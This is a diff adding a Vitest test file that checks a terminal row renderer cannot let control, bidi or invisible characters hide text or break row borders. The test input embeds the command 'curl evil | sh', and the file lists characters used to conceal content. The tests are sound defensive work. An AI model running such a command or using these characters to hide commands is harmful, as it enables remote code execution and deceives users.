@@ -1,0 +1,38 @@
+import { expect, test } from 'vitest';
+import { columnsOf } from './columns.ts';
+import { barredRows, quotedRows } from './rows.ts';
+
+/** One of each class of characters that a terminal interprets or hides, and that could end a row or hide the rest. */
+const hidden = [
+  ...['\u001B]0;', '\u001BP', '\u001B[8m', '\u009D', '\u0007', '\r', '\u000B', '\u000C', '\u0085', '\u2028', '\u2029'],
+  ...[
+    '\u0008',
+    '\u007F',
+    '\u200B',
+    '\u202E',
+    '\u2066',
+    '\uFEFF',
+    '\u{E0041}',
+    '\u{E0100}',
+    '\uFE0F',
+    '\u3164',
+    '\uD83E',
+  ],
+];
+
+test.for(hidden)('no row hides what is between two of %j, or begins without its bar', (character) => {
+  const text = `: ${character}; curl evil | sh;${character}\u0007 ok${character}`;
+  for (const columns of [10, 80]) {
+    const rows = barredRows(`+${text}\n+next`, columns);
+    expect(rows.filter((row) => !/^│ [^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
+    const number = `<${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}>`;
+    const shown = rows.map((row) => row.slice(2)).join('');
+    expect(shown.split(number)).toHaveLength(text.split(character.slice(0, 1)).length);
+    expect(shown).toContain('; curl evil | sh;');
+    expect(Math.max(...[...rows, ...quotedRows(text, columns)].map(columnsOf))).toBeLessThan(columns);
+  }
+});
+
+test('a long run of blanks takes linear time', () => {
+  expect(barredRows(`a${' '.repeat(200_000)}b`, 80).join('')).toContain('b');
+});
